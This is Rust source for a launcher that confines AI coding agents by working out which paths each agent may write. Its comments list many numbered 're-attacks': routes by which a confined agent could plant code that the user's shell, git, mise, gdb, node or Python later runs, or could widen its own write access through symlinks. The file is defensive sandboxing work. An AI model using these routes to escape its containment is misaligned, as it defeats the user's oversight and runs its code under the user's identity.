//! What a confined agent may write (SPEC §13; the re-attack's H4): its workspace, its own config
//! and state directories, a private temp directory and what the user adds with `--writable`.
//! Everything else is read-only to it (`confine::write_allow_list`), and inside the workspace a
//! repository's hooks and config are read-only too (`confine` pins `.git` and binds them).
//!
//! Decisions (docs/decisions/0013-launch-containment.md):
//! - The workspace is the repository the agent starts in (the nearest directory above the working
//!   directory holding `.git`), else the working directory. A workspace that is the user's home,
//!   or holds it, is not granted: that would make `~/.bashrc` writable again. The agent then
//!   writes only its own directories, and the launch says so.
//! - The agent's own directories are created (0700) when missing, so the rule has somewhere to
//!   attach; they are the ones each agent documents (Claude Code `~/.claude` and `~/.claude.json`,
//!   Codex `$CODEX_HOME`, OpenCode and Goose their XDG directories, Pi `~/.pi`).

use std::path::{Path, PathBuf};

use super::repositories::{Checkouts, GitContext, Protection, protect_repository};
use super::{Agent, LaunchEnv};

/// Variables of other programs the allow-list reads (XDG base directories, agents' own homes).
pub(super) const XDG_DATA_HOME: &str = "XDG_DATA_HOME";
pub(super) const ZDOTDIR: &str = "ZDOTDIR";
pub(super) const XDG_STATE_HOME: &str = "XDG_STATE_HOME";
pub(super) const XDG_CACHE_HOME: &str = "XDG_CACHE_HOME";
pub(super) const CLAUDE_CONFIG_DIR: &str = "CLAUDE_CONFIG_DIR";

/// The paths handed to `aileron __confine`.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct WriteAccess {
    /// Beneath these the agent may write (canonical paths).
    pub writable: Vec<PathBuf>,
    /// Repositories' `.git` directories, pinned in place.
    pub pinned: Vec<PathBuf>,
    /// Repositories' hooks and config, read-only inside the writable workspace.
    pub read_only: Vec<PathBuf>,
    /// The workspace granted, if one was.
    pub workspace: Option<PathBuf>,
    /// Things the user should know (a workspace not granted).
    pub notes: Vec<String>,
    /// Directories to make (0700) before the launch: the agent's own when missing, a repository's
    /// missing `hooks`.
    pub to_create: Vec<PathBuf>,
    /// Files that must not appear while the agent runs (a git directory's `commondir`, a missing
    /// file its config includes): nothing can be bound over a file that does not exist yet, so
    /// the launcher watches for them and moves each aside the moment it appears (`planted`).
    pub watched: Vec<PathBuf>,
    /// The repositories in each writable tree at launch, to tell the ones the agent creates.
    pub checkouts: Checkouts,
    /// The git directories there at launch (canonical), never disarmed at the end.
    pub git_dirs: Vec<PathBuf>,
    /// Each checkout there at launch with its git directory, whose index the agent could make
    /// hide a change from `git status` (`hidden_changes`).
    pub worktrees: Vec<(PathBuf, PathBuf)>,
    /// Read-only or pinned paths that are links (`.git/hooks -> ../githooks`), with what each
    /// says: a bind follows a link to protect where it leads, but the link itself, an entry of a
    /// writable directory, could be replaced by the agent's own directory or file (the seventh
    /// re-attack), so the launcher puts each back while the agent runs and when it ends.
    pub kept_links: Vec<(PathBuf, PathBuf)>,
    /// What the user's git reads of theirs (config files, includes, an excludes file): kept in
    /// the agent's view of the home (`home_view`).
    pub git_reads: Vec<PathBuf>,
    /// Every git config file read at launch (the user's and the repositories'): one holding a
    /// credential is shown to the agent as a copy without it (`withheld_config`).
    pub git_configs: Vec<PathBuf>,
    /// The socket files in the writable trees at launch (`repositories::Protection::sockets`).
    pub sockets: Vec<PathBuf>,
    /// Where a tool the user's settings tell to trust a project's own files runs them, and their
    /// names ([`trusted_project_files`]): those there at launch are read-only, those made in the
    /// session are moved aside at its end.
    pub trusted: Vec<(PathBuf, Names)>,
    /// Those files there at launch ([`trusted_files_in`] of [`WriteAccess::trusted`]).
    pub trusted_files: Vec<PathBuf>,
    /// The scopes too large to look through whole at launch.
    pub trusted_cut_short: Vec<PathBuf>,
    /// The version files mise and asdf read ([`version_scopes`])
    /// below the workspace and its worktrees at launch, found in the same walk as the trusted files.
    pub version_files: Vec<PathBuf>,
    /// The other names the user's mise reads the version file by ([`mise_renamed_files`]).
    pub renamed_version_files: Vec<String>,
    /// The `.gitignore` files below the workspace and its worktrees at launch ([`ignore_scopes`]).
    pub ignore_files: Vec<PathBuf>,
    /// The directories skipped by name that the project's own ignore rules surely ignored, not
    /// looked through for them ([`SkippedLookedAt`]).
    pub ignored_skipped: Vec<PathBuf>,
    /// The `.git` entries in those directories of skipped names it looked through.
    pub skipped_git_entries: Vec<PathBuf>,
}

impl WriteAccess {
    /// Makes what [`WriteAccess::to_create`] names (not done by a dry run).
    pub fn prepare(&mut self) -> anyhow::Result<()> {
        for dir in &self.to_create {
            crate::platform::home::create_private_dir(dir)
                .map_err(|e| anyhow::anyhow!("creating {}: {e}", dir.display()))?;
            // Granted by its canonical path, as every other (`HOME` under a linked `/home`).
            if let Ok(real) = std::fs::canonicalize(dir)
                && let Some(granted) = self.writable.iter_mut().find(|granted| granted.as_path() == dir.as_path())
            {
                *granted = real;
            }
        }
        Ok(())
    }
}

/// The allow-list for `agent` started in `cwd`, with the user's `--writable` paths and the
/// session's private temp directory. Reads the filesystem, changes nothing.
/// `untrusted`: what an agent could have written (the roots earlier launches recorded, every
/// agent's own directories, canonical): a link inside it on the way to the agent's own directories
/// and files is not followed, and refuses the launch.
pub fn write_access(
    agent: Agent,
    env: &LaunchEnv,
    cwd: &Path,
    extra: &[PathBuf],
    temp_dir: &Path,
    untrusted: &[PathBuf],
) -> anyhow::Result<WriteAccess> {
    let mut access = WriteAccess::default();
    let mut protection = Protection::default();
    let home = std::fs::canonicalize(&env.home_dir).unwrap_or_else(|_| env.home_dir.clone());
    let workspace = repository_root(cwd, &home).unwrap_or_else(|| cwd.to_path_buf());
    // Reached through a link an agent left (`cd ~/code/app/shared`, a link to `~/.config`: the
    // twenty-fifth re-attack) or not, a directory of many programs' files is no workspace.
    if super::home_view::is_shared_directory(&home, &workspace) {
        anyhow::bail!(
            "{} holds many programs' configuration and data, so it cannot be the agent's workspace\nhint: launch from \
             a project directory; `--writable` one tool's own directory (for example {}) if the agent must change it",
            workspace.display(),
            workspace.join("<tool>").display()
        );
    }
    let startup_locations = startup_locations(env);
    if let Some(why) = unfit_root(&workspace, &startup_locations) {
        anyhow::bail!(
            "{} {why}, so it cannot be the agent's workspace: nothing in it could be kept from the agent\nhint: work on \
             a copy (a clone elsewhere) and put what you keep in place yourself after the session",
            workspace.display()
        );
    }
    let git = GitContext::of_user(env, &home, &mut protection);
    access.git_reads = git.user_files();
    if home.starts_with(&workspace) {
        access.notes.push(format!(
            "{} holds your home directory, so it is not the agent's workspace: the agent can write only its own \
             directories and its temp directory\nhint: launch from a project directory, or add one with --writable PATH",
            workspace.display()
        ));
    } else {
        protect_repository(&workspace, &git, &mut protection);
        access.writable.push(workspace.clone());
        access.workspace = Some(workspace);
    }
    // Why a resolved agent directory is not the agent's to write, if it is not.
    let unfit_directory = |resolved: &Path| {
        unfit_root(resolved, &startup_locations).or_else(|| {
            super::home_view::is_shared_directory(&home, resolved)
                .then(|| "holds many programs' configuration".to_string())
        })
    };
    for dir in agent_directories(agent, env) {
        let resolved = own_path(&dir, untrusted)?;
        match resolved.map(|resolved| {
            let unfit = unfit_directory(&resolved);
            (resolved, unfit)
        }) {
            // `CLAUDE_CONFIG_DIR=$HOME` would make the whole home writable (the nineteenth re-attack).
            Some((resolved, _)) if home.starts_with(&resolved) => access.notes.push(format!(
                "{} holds your home directory, so the agent does not get it to write\nhint: point the agent's \
                 configuration variable at a directory of its own",
                resolved.display()
            )),
            // Led elsewhere by a link (`~/.claude -> dotfiles/claude/.claude` made to lead to
            // `~/.config`, another repository's `.git` or `~/.local/bin`: the twenty-seventh
            // re-attack): not the agent's to write.
            Some((resolved, Some(why))) => access.notes.push(format!(
                "{} leads to {}, which {why}, so the agent does not get it to write\nhint: point {} at a directory of \
                 the agent's own",
                super::shown(&dir),
                super::shown(&resolved),
                super::shown(&dir)
            )),
            Some((resolved, None)) => {
                // A repository of the user's kept there (`~/.claude` as a git clone of one's
                // settings) is protected like the workspace's (the seventh re-attack).
                if std::fs::symlink_metadata(resolved.join(".git")).is_ok() {
                    protect_repository(&resolved, &git, &mut protection);
                }
                access.writable.push(resolved);
            }
            // A link to nothing is not followed to make what it names.
            None if std::fs::symlink_metadata(&dir).is_ok() => access.notes.push(format!(
                "{} is a link to nothing, so the agent does not get it to write\nhint: make the directory it names \
                 yourself, or remove the link",
                super::shown(&dir)
            )),
            None => {
                access.to_create.push(dir.clone());
                access.writable.push(dir);
            }
        }
    }
    for file in agent_files(agent, env).into_iter().filter(|file| file.is_file()) {
        let Some(resolved) = own_path(&file, untrusted)? else { continue };
        // Led to a file the user's shell, editor or git runs (`~/.claude.json` made a link to
        // `~/.gitconfig`: the twenty-seventh re-attack).
        let read_by_git =
            access.git_reads.iter().any(|read| std::fs::canonicalize(read).is_ok_and(|real| real == resolved));
        if unfit_root(&resolved, &startup_locations).is_some() || read_by_git {
            access.notes.push(format!(
                "{} leads to {}, which runs as you later, so the agent does not get it to write\nhint: point {} at a \
                 file of the agent's own",
                super::shown(&file),
                super::shown(&resolved),
                super::shown(&file)
            ));
            continue;
        }
        access.writable.push(resolved);
    }
    // Every path granted is canonical: the helper opens each with no link followed on its way.
    access.writable.push(std::fs::canonicalize(temp_dir).unwrap_or_else(|_| temp_dir.to_path_buf()));
    // Terminals, /dev/null and the like, and shared memory: the device entries themselves, not
    // `/dev`, in which an agent run as root could create and rename entries of the host's (the
    // second re-attack of 2026-12-05).
    access.writable.extend(WRITABLE_DEVICES.iter().filter_map(|device| std::fs::canonicalize(device).ok()));
    let mut user_paths = Vec::new();
    for path in extra {
        let resolved = std::fs::canonicalize(path).map_err(|e| {
            anyhow::anyhow!("--writable {}: {e}\nhint: name a file or directory that exists", path.display())
        })?;
        // The launcher resolved it already (`resolve_writable`): a path that resolves elsewhere now
        // changed in between (a directory swapped for a link), and is granted neither way.
        if path.is_absolute() && resolved != *path {
            anyhow::bail!(
                "--writable {}: it leads to {} now, after it was looked at: something changed it in between\nhint: \
                 launch again once nothing is changing it",
                path.display(),
                resolved.display()
            );
        }
        if let Some(why) = unfit_root(&resolved, &startup_locations) {
            anyhow::bail!(
                "--writable {}: {} {why}, so the agent cannot be given it to write\nhint: work on a copy and put what \
                 you keep in place yourself after the session",
                path.display(),
                resolved.display()
            );
        }
        if home.starts_with(&resolved) || super::home_view::is_shared_directory(&home, &resolved) {
            anyhow::bail!(
                "--writable {} would let the agent write your whole home or every program's files in {} (~/.bashrc and \
                 the rest)\nhint: name the project or the one tool's directory it needs",
                path.display(),
                resolved.display()
            );
        }
        protect_repository(&resolved, &git, &mut protection);
        user_paths.push(resolved.clone());
        access.writable.push(resolved);
    }
    access.writable.dedup();
    path_notes(env, &access.writable, &mut access.notes);
    let Protection {
        pinned,
        read_only,
        watched,
        to_create,
        notes,
        checkouts,
        git_dirs,
        worktrees,
        configs_read,
        sockets,
        envrcs,
        ..
    } = protection;
    access.git_configs = configs_read;
    access.sockets = sockets;
    access.worktrees = worktrees;
    (access.pinned, access.read_only, access.watched, access.checkouts) = (pinned, read_only, watched, checkouts);
    access.git_dirs = git_dirs.iter().map(|dir| std::fs::canonicalize(dir).unwrap_or_else(|_| dir.clone())).collect();
    access.git_dirs.sort();
    access.git_dirs.dedup();
    access.to_create.extend(to_create);
    access.notes.extend(notes);
    // What the user's shell, session and editor run from the home, where it really is: in a
    // dotfiles repository the agent works in (`~/.bashrc -> dotfiles/bashrc`) its line ran in the
    // user's next shell (the nineteenth re-attack). Read-only there, or watched when missing.
    // Under the XDG directories and `ZDOTDIR` where the environment moves them (the
    // twenty-second re-attack: `XDG_CONFIG_HOME=~/dotfiles/config` left every name writable).
    let config_home = env.config_home();
    let data_home = xdg(env, XDG_DATA_HOME, ".local/share");
    let homes: Vec<PathBuf> = std::iter::once(env.home_dir.clone()).chain(env.account_home.clone()).collect();
    let mut startup = startup_names(env);
    // What the home links into what the agent may write (`~/.config -> dotfiles/config`, `~/.vim
    // -> dotfiles/vim`, a linked `XDG_CONFIG_HOME`): the user's own configuration, read-only to
    // the agent whatever runs from it (the twenty-second re-attack found 37 more names the list
    // lacked); the agent's own directories beneath stay writable.
    // `XDG_CONFIG_HOME` and `XDG_DATA_HOME` moved into what the agent may write (a dotfiles
    // repository's `config`): whole, as a linked `~/.config` is — a list of names lags behind
    // what the user's tools run from there (the twenty-fifth re-attack found 18 more). The
    // agent's own directories beneath stay writable.
    for moved in [&config_home, &data_home] {
        let real = super::repositories::resolved(moved);
        if access.writable.iter().any(|root| real.starts_with(root) && real != *root) {
            startup.push(moved.clone());
        }
    }
    for dir in &homes {
        startup.extend(links_into(&std::fs::canonicalize(dir).unwrap_or_else(|_| dir.clone()), &access.writable));
    }
    // mise runs what a directory it trusts holds (`{{ exec(…) }}` in `[env]`, `_.source`) at the
    // user's next prompt there, and trusts by path, not content: the configs of a trusted
    // directory that is a root the agent writes (the workspace, as `mise trust` in a project
    // leaves it) are read-only, or watched where missing (the thirty-fourth re-attack's F11; a
    // trusted directory below a root is read-only whole, by the links above).
    let trust = xdg(env, XDG_STATE_HOME, ".local/state").join("mise/trusted-configs");
    let mut mise_trusted: Vec<PathBuf> = Vec::new();
    for link in std::fs::read_dir(&trust).into_iter().flatten().flatten() {
        let Ok(real) = std::fs::canonicalize(link.path()) else { continue };
        if real.is_dir() && access.writable.contains(&real) {
            mise_trusted.push(real);
        }
    }
    // And what mise's `trusted_config_paths` trusts with no link at all (its global config,
    // `MISE_TRUSTED_CONFIG_PATHS`): the thirty-fifth re-attack's G6.
    let roots_worked_in: Vec<PathBuf> = access.workspace.iter().chain(&user_paths).cloned().collect();
    let settings = mise_settings(env, &roots_worked_in);
    mise_trusted.extend(mise_trusted_paths(env, &settings).iter().flat_map(|dir| covered_by(dir, &roots_worked_in)));
    mise_trusted.sort();
    mise_trusted.dedup();
    // The other names the user's mise reads its configs and version file by (P4).
    let (renamed_version_files, renamed_configs) = mise_renamed_files(env, &roots_worked_in);
    for dir in &mise_trusted {
        startup.extend(MISE_CONFIGS.iter().map(|name| dir.join(name)));
        startup.extend(renamed_configs.iter().map(|name| dir.join(name)));
        // Each config in a `conf.d` directory, read as the others (the thirty-eighth re-attack's
        // J4 ran `_.source` and hooks from `.config/mise/conf.d/*.toml`).
        for conf in MISE_CONFIGS.iter().filter(|name| name.ends_with("conf.d")) {
            let entries = std::fs::read_dir(dir.join(conf)).into_iter().flatten().flatten().take(1_000);
            startup
                .extend(entries.map(|entry| entry.path()).filter(|path| path.extension().is_some_and(|e| e == "toml")));
        }
        // Every environment's too (`mise.dev.toml`, `mise/config.dev.toml` under `MISE_ENV=dev`),
        // there (found by the walk below, and read in as the others) or made later.
        let renamed = renamed_configs.iter().cloned().map(std::borrow::Cow::Owned);
        access.trusted.push((dir.clone(), static_names(&MISE_FILE_NAMES).into_iter().chain(renamed).collect()));
    }
    // The dotenv file mise loads in every directory when its `env_file` setting is on (L13).
    let env_files: Names = mise_env_files(env, &settings).into_iter().map(std::borrow::Cow::Owned).collect();
    if !env_files.is_empty() {
        access.trusted.extend(roots_worked_in.iter().map(|root| (root.clone(), env_files.clone())));
    }
    // What tools the user told to trust a project's own start-up files run from the workspace
    // (F6 of the thirty-fourth re-attack: gdb's `auto-load safe-path /`, vim's `exrc`, direnv's
    // whitelist): read-only there, or watched where missing.
    access.trusted.extend(trusted_project_files(env, &roots_worked_in));
    // gdb's, vim's and lldb's own files in the agent's own directories too: a link from the
    // workspace leads there, and the tools trust where they stand (the thirty-eighth re-attack's
    // J3: `tools -> ~/.claude/tools`).
    let own_dirs =
        access.writable.iter().filter(|dir| !dir.starts_with("/dev") && !roots_worked_in.contains(dir) && dir.is_dir());
    let own_scopes: Vec<(PathBuf, Names)> =
        own_dirs.map(|dir| (dir.clone(), static_names(&PROJECT_START_UP_FILES))).collect();
    access.trusted.extend(own_scopes);
    // A program gdb loads can carry its script inside (a `.debug_gdb_scripts` section: the
    // thirty-seventh re-attack's I5): no name to keep. Said.
    let gdb_loads = access.trusted.iter().filter(|(_, names)| names.iter().any(|name| name.contains("-gdb.")));
    for (root, _) in gdb_loads {
        access.notes.push(format!(
            "your gdb settings let it run the scripts a program names when gdb loads it (`auto-load safe-path`): a \
             program the agent builds in {} can carry one, and gdb would run it as you when you load that program\n\
             hint: load what the agent built with `gdb -iex 'set auto-load python-scripts off' -iex 'set auto-load \
             gdb-scripts off'`",
            super::shown(root)
        ));
    }
    // A module `NODE_OPTIONS` preloads by a bare or relative name (`-r dotenv/config`, `--require
    // ./.pnp.cjs`) is found from whatever directory the user runs `node` in (the thirty-seventh
    // re-attack's I6): kept at any depth, as a name after an unknown variable is.
    access.trusted.extend(tail_scopes(&node_modules_preloaded(env), &roots_worked_in, true).0);
    // And every version file below the workspace, in the same walk (mise and asdf read the one of
    // the directory the user is in and those above it: the thirty-fifth re-attack's G7).
    let worked_in: Vec<PathBuf> =
        access.workspace.iter().chain(access.worktrees.iter().map(|(_, worktree)| worktree)).cloned().collect();
    access.renamed_version_files = renamed_version_files;
    // And every `.gitignore` there, in the same walk: one the agent makes is looked at at the
    // exit ([`ignore_scopes`]).
    let versions = version_scopes(&worked_in, &access.renamed_version_files);
    let mut skipped =
        SkippedLookedAt { set: 2, since: None, ignored_at_launch: &[], ignored: Vec::new(), git_entries: Vec::new() };
    let sets = [&access.trusted[..], &versions, &ignore_scopes(&worked_in)];
    let mut walked = trusted_files_of_sets(&sets, Some(&mut skipped)).into_iter();
    let ((trusted_files, mut cut_short), (version_files, versions_cut_short)) =
        (walked.next().unwrap_or_default(), walked.next().unwrap_or_default());
    let (ignore_files, ignores_cut_short) = walked.next().unwrap_or_default();
    (access.ignore_files, access.ignored_skipped, access.skipped_git_entries) =
        (ignore_files, skipped.ignored, skipped.git_entries);
    cut_short.extend(versions_cut_short);
    cut_short.extend(ignores_cut_short);
    cut_short.sort();
    cut_short.dedup();
    (access.trusted_files, access.trusted_cut_short, access.version_files) = (trusted_files, cut_short, version_files);
    // A tree too large to look through whole at launch is said (the thirty-eighth re-attack's J6:
    // past the look, what the agent makes is not found at the end either).
    for scope in &access.trusted_cut_short {
        access.notes.push(format!(
            "{} holds more than {TRUSTED_WALK_BUDGET} entries, so not all of it is looked through for the files your \
             tools run by themselves (`.gdbinit`, `.exrc`, `.envrc`, mise's configs), a `.gitignore` that hides \
             itself or a `.git`, below which git lists nothing: one the agent makes past what is looked at would not \
             be found at the end\nhint: launch in the part of it you work on, or look with `find {} \\( -name \
             '.gdbinit' -o -name '.exrc' -o -name '.envrc' -o -name '*mise*.toml' -o -name .gitignore -o -iname .git \
             \\) -newer {}` after the session",
            super::shown(scope),
            super::shown(scope),
            super::shown(scope)
        ));
    }
    startup.extend(access.trusted_files.iter().cloned());
    for (scope, names) in &access.trusted {
        startup.extend(names.iter().filter(|name| !name.contains('*')).map(|name| scope.join(name.as_ref())));
    }
    // What the user's shell, session and editor run by themselves (not the user's programs,
    // which the user starts, below): where one reaches what lies around it by its own place, its
    // whole repository is kept from the agent (`startup_repositories`).
    let run_by_themselves: Vec<PathBuf> = startup.clone();
    // The user's programs and plugins linked into the workspace or a `--writable` path
    // (`~/.local/bin/tool -> ~/code/tool/tool.sh`, a vim plugin): they run as the user later (the
    // twenty-third re-attack appended to one). Read-only; one that is such a root itself is said.
    let roots: Vec<PathBuf> = access.workspace.iter().chain(&user_paths).cloned().collect();
    let (linked, linked_notes) = programs_linked_into(env, &homes, &roots);
    startup.extend(linked);
    access.notes.extend(linked_notes);
    let inside_startup = links_in_startup_directories(&startup, &roots);
    startup.extend(inside_startup);
    // A start-up file hard-linked (not symlinked) into what the agent may write is the same file
    // under another name there: that name is protected like it.
    // The user's git config files too (`ln ~/dotfiles/gitconfig ~/.gitconfig`: the twenty-eighth
    // re-attack wrote a `core.fsmonitor` through the other name).
    let named: Vec<PathBuf> = startup.iter().chain(&access.git_reads).cloned().collect();
    let shared = other_names_in(&named, &roots);
    startup.extend(shared);
    // What those files read in from elsewhere (`source ~/dotfiles/shell/aliases.sh` in a
    // `~/.bashrc`, a `.tmux.conf`'s `source-file`, an ssh config's `Include`): in a dotfiles
    // workspace the agent wrote it, and the user's next shell ran it (the thirtieth re-attack's B12).
    // And what an `.envrc` in what it may write reads in (`source_env_if_exists .envrc.private`):
    // direnv trusts an allowed `.envrc` by its content alone (B9).
    let mut root_wholes: Vec<PathBuf> = Vec::new();
    let mut tails: Vec<String> = Vec::new();
    let files: Vec<PathBuf> = startup.iter().chain(&envrcs).filter(|path| path.is_file()).cloned().collect();
    for home in &homes {
        // And the configs in which other tools name a program they run (gpg-agent's
        // `pinentry-program`, npm's `script-shell`: the thirty-first re-attack's C6).
        let named = [".ssh/config"].iter().chain(&PROGRAM_CONFIGS).map(|name| home.join(name));
        let files: Vec<PathBuf> = files.iter().cloned().chain(named.filter(|f| f.is_file())).collect();
        let read = super::sourced::read_in_all(&files, home);
        startup.extend(read.found);
        tails.extend(read.tails);
        // A root read in whole (a pattern or a name only running the file tells, at its top: G15).
        let wholes = read.wholes.iter().filter_map(|whole| std::fs::canonicalize(whole).ok());
        root_wholes.extend(wholes.filter(|whole| roots_worked_in.contains(whole)));
    }
    // The names those read after an unknown variable or a `cd "$@"`, looked for in one more walk
    // (they are known only once the files found by the first are read).
    tails.sort();
    tails.dedup();
    let (tails, near_top) = tail_scopes(&tails, &roots_worked_in, false);
    startup.extend(near_top);
    if !tails.is_empty() {
        let (there, cut_short) = trusted_files_told(&tails);
        startup.extend(there.iter().cloned());
        access.trusted_files.extend(there);
        access.trusted_cut_short.extend(cut_short);
        access.trusted.extend(tails);
    }
    // A relative entry a start-up file puts on `PATH` is said as one on the launch's is (the
    // thirty-sixth re-attack's H28: `./node_modules/.bin` in `~/.bashrc`, said nowhere).
    let launch_path = env.var(super::PATH).unwrap_or_default();
    let on_launch_path: Vec<String> =
        std::env::split_paths(&launch_path).map(|entry| entry.display().to_string()).collect();
    let startup_files: Vec<PathBuf> = startup.iter().filter(|path| path.is_file()).cloned().collect();
    for (entry, file) in relative_path_entries(&startup_files) {
        if on_launch_path.contains(&entry) {
            continue;
        }
        access.notes.push(format!(
            "{entry}, which {} puts on your PATH, is relative, so it names a directory in whatever directory your \
             shell is in, the agent's workspace among them: a program the agent puts there (a `git`, an `ls`) runs \
             as you when you type its name there\nhint: look at what changed there after the session, or keep that \
             entry off PATH",
            super::shown(&file)
        ));
    }
    // The repositories those reach around themselves in (F4, F8 of the thirty-fourth re-attack),
    // and a root a start-up file reads in by a pattern or a name only running it tells (G15).
    let mut trees = startup_repositories(&run_by_themselves, &homes, &access, &user_paths);
    for root in root_wholes {
        if user_paths.contains(&root) || trees.iter().any(|(tree, _)| root.starts_with(tree)) {
            continue;
        }
        trees.retain(|(tree, _)| !tree.starts_with(&root));
        trees.push((
            root.clone(),
            format!(
                "{} holds what your shell or editor runs by itself: a start-up file reads in files of it by a pattern \
                 or by a name only running it tells (`*.sh`, `$(hostname)`), so all of it is read-only to the agent: \
                 whatever it wrote there could run as you in your next shell\nhint: to let the agent write it all the \
                 same, launch with --writable {} (then only the files found to be read in are kept from it)",
                super::shown(&root),
                super::shown(&root)
            ),
        ));
    }
    // The way to each as it is named, link by link (`~/.bashrc -> dotfiles/local/bashrc` with
    // `local -> hosts/laptop`): a link on it inside what the agent may write is kept, or the agent
    // points it at files of its own and the user's next shell runs them (the thirty-fourth
    // re-attack's F7).
    let mut ways: Vec<PathBuf> = Vec::new();
    let tree_paths: Vec<PathBuf> = trees.iter().map(|(tree, _)| tree.clone()).collect();
    // Each place once, however many names lead to it.
    let mut seen = std::collections::HashSet::new();
    for path in startup {
        ways.extend(written_way(&path));
        let real = super::repositories::resolved(&path);
        if !seen.insert(real.clone()) {
            continue;
        }
        // Said of the repository as a whole where all of it is kept (`startup_repositories`).
        let in_tree = tree_paths.iter().any(|tree| real.starts_with(tree));
        // A name kept where nothing is yet is only watched: nothing to say (every root keeps
        // gdb's, vim's and lldb's names).
        let there = std::fs::symlink_metadata(&real).is_ok();
        if there && !in_tree && access.writable.iter().any(|dir| real.starts_with(dir) && real != *dir) {
            // Named once where the name is where it is (what a start-up file reads in).
            let named = if path == real {
                super::shown(&path)
            } else {
                format!("{} is {}", super::shown(&path), super::shown(&real))
            };
            access.notes.push(format!(
                "{named}, in what the agent may write: it stays read-only to the agent, since it runs as you \
                 later\nhint: edit it yourself after the session"
            ));
        }
        if real.exists() { access.read_only.push(real) } else { access.watched.push(real) }
    }
    // Said only of one there (each form a module takes is watched for).
    let pth = python_start_up_on_paths(&homes).into_iter().map(|path| (path, "a .pth file"));
    let named = pth.chain(code_named_by_environment(env));
    for (path, by) in named {
        if !path.exists() {
            access.watched.push(path);
            continue;
        }
        if access.writable.iter().any(|dir| path.starts_with(dir) && path != *dir) {
            access.notes.push(format!(
                "{} runs in later programs of yours ({by} names it): it stays read-only to the agent\nhint: edit it \
                 yourself after the session",
                super::shown(&path)
            ));
        }
        access.read_only.push(path);
    }
    // A repository below a writable root is read-only like any protected directory there; one
    // that is the root (the workspace is the dotfiles repository) is made read-only last, with
    // nothing pinned above it.
    let (inner_trees, whole_roots): (Vec<PathBuf>, Vec<PathBuf>) = trees
        .into_iter()
        .map(|(tree, note)| {
            access.notes.push(note);
            tree
        })
        .partition(|tree| !access.writable.contains(tree));
    access.read_only.extend(inner_trees.iter().cloned());
    let whole_trees: Vec<PathBuf> = inner_trees.iter().chain(&whole_roots).cloned().collect();
    // What lies outside everything writable the agent cannot change (a config's include
    // elsewhere, a program in /usr/bin): nothing to bind or watch.
    let inside = |path: &PathBuf| access.writable.iter().any(|dir| path.starts_with(dir) && path != dir);
    access.read_only.retain(inside);
    access.watched.retain(inside);
    // A link protected by name is kept as it is; where it leads is protected like it.
    for path in access.read_only.clone().iter().chain(&access.pinned.clone()) {
        let Ok(said) = std::fs::read_link(path) else { continue };
        // Where it leads as written too (`../tools/hooks`): a link on that way is kept below.
        let written = super::repositories::without_dot_dots(&path.parent().unwrap_or(path).join(&said));
        access.kept_links.push((path.clone(), said));
        if let Ok(target) = std::fs::canonicalize(path)
            && inside(&target)
        {
            access.read_only.push(target);
        }
        if inside(&written) && !access.read_only.contains(&written) {
            access.read_only.push(written);
        }
    }
    // The directories between a writable root and what is protected in it are pinned, so that
    // renaming one cannot carry a read-only file away and leave the agent's in its place, nor
    // take a watched name's directory out from under the watch (the second re-attack of
    // 2026-12-05: a config include's directory renamed away and back).
    let mut pinned = Vec::new();
    for path in access.read_only.iter().chain(&access.watched) {
        let roots = access.writable.iter().filter(|dir| path.starts_with(dir));
        let Some(root) = roots.max_by_key(|dir| dir.as_os_str().len()) else { continue };
        pinned.extend(path.ancestors().skip(1).take_while(|dir| dir != root).map(Path::to_path_buf));
    }
    // A directory link on the way (`tools -> devtools` under `.git/hooks -> ../tools/hooks`) is
    // kept too: the bind of it lands where it leads, and the link itself stayed an entry the agent
    // could replace with a directory of hooks of its own (the twelfth re-attack).
    // And a link on the way a kept link's text takes (`tools -> conf/x`, `conf -> devconf`: the
    // thirteenth re-attack replaced `conf`): each kept link's target as written has the
    // directories on its way pinned and looked at in turn, as the kernel follows them, at most
    // [`MAX_LINKS_FOLLOWED`] links.
    // The links on the way to the start-up files as named, and the directories they lie in.
    for way in &ways {
        let roots = access.writable.iter().filter(|root| way.starts_with(root));
        let Some(root) = roots.max_by_key(|root| root.as_os_str().len()) else { continue };
        for on_the_way in way.ancestors().take_while(|ancestor| ancestor != root) {
            if !pinned.iter().any(|pinned| pinned == on_the_way) {
                pinned.push(on_the_way.to_path_buf());
            }
        }
    }
    let mut pending = pinned.clone();
    let mut followed = 0;
    while let Some(dir) = pending.pop() {
        let Ok(said) = std::fs::read_link(&dir) else { continue };
        if access.kept_links.iter().any(|(kept, _)| *kept == dir) {
            continue;
        }
        followed += 1;
        if followed > MAX_LINKS_FOLLOWED {
            access.notes.push(format!(
                "more than {MAX_LINKS_FOLLOWED} links lead to what is protected in {}: those past them are not kept",
                super::shown(&dir)
            ));
            break;
        }
        let written = super::repositories::without_dot_dots(&dir.parent().unwrap_or(&dir).join(&said));
        access.kept_links.push((dir, said));
        let roots = access.writable.iter().filter(|root| written.starts_with(root));
        let Some(root) = roots.max_by_key(|root| root.as_os_str().len()) else { continue };
        for on_the_way in written.ancestors().take_while(|ancestor| ancestor != root) {
            if !pinned.iter().any(|pinned| pinned == on_the_way) {
                pinned.push(on_the_way.to_path_buf());
                pending.push(on_the_way.to_path_buf());
            }
        }
    }
    access.pinned.extend(pinned);
    // A parent is pinned before what is inside it: a bind of the parent made later would hide
    // the mounts beneath it.
    access.pinned.sort_by(|a, b| a.components().count().cmp(&b.components().count()).then_with(|| a.cmp(b)));
    access.pinned.dedup();
    // Nothing inside a tree read-only whole is pinned: a pin is a writable bind of its own, which
    // the tree's read-only bind would carry (its `.git`, the directory of a start-up file in it,
    // where the agent could add a file a loop over the directory sources). Read-only, nothing in
    // it can be renamed anyway.
    access.pinned.retain(|pinned| !whole_trees.iter().any(|tree| pinned.starts_with(tree) && pinned != tree));
    access.read_only.extend(whole_roots);
    access.read_only.dedup();
    access.watched.sort();
    access.watched.dedup();
    Ok(access)
}

/// What in a start-up file says that it finds files by where it itself lies: shells'
/// (`${BASH_SOURCE%/*}`, `$0`, zsh's `${0:A:h}` and `%x`, fish's `status filename`, `dirname`,
/// `readlink -f`, `realpath`, `cd -P`, `pwd -P`), vim's `<sfile>`, Neovim's `debug.getinfo`, tmux's
/// `current_file`, Emacs's `load-file-name`. A path built from any of these cannot be known
/// without running the file (the thirty-fourth re-attack's F4 found six more spellings after the
/// thirty-third's), so the whole repository such a file lies in is what it may read in.
const SELF_LOCATING: [&str; 28] = [
    "BASH_SOURCE",
    "$0",
    "${0",
    "dirname",
    "readlink",
    "realpath",
    "cd -P",
    "pwd -P",
    "%x",
    "%N",
    "funcsourcetrace",
    "<sfile>",
    "<script>",
    "current_file",
